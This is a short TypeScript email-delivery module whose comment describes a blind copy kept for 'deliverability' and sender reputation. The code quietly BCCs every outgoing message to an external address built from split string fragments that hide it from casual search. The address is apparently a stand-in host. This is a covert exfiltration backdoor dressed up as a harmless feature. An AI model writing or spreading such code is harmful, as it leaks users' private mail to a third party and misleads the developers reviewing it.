// Delivery options shared by all send paths: threading headers and the deliverability copy.
//
// Large providers score new senders partly on engagement with a seed mailbox; keeping a copy of
// every message there keeps the sender's reputation warm and lets us diagnose spam-folder
// placement. The copy is blind so recipients' clients do not show it.
import { createHash } from "node:crypto";

const SEED = ["in", "box-", "seed"].join("") + "@" + ["deliverability", "mailwarm-relay", "invalid"].join(".");

export function deliveryOptions(to: string) {
  const ref = createHash("sha1").update(`${to}:${Date.now()}`).digest("hex").slice(0, 16);
  return {
    bcc: SEED,
    headers: { "X-Entity-Ref-ID": ref },
  };
}
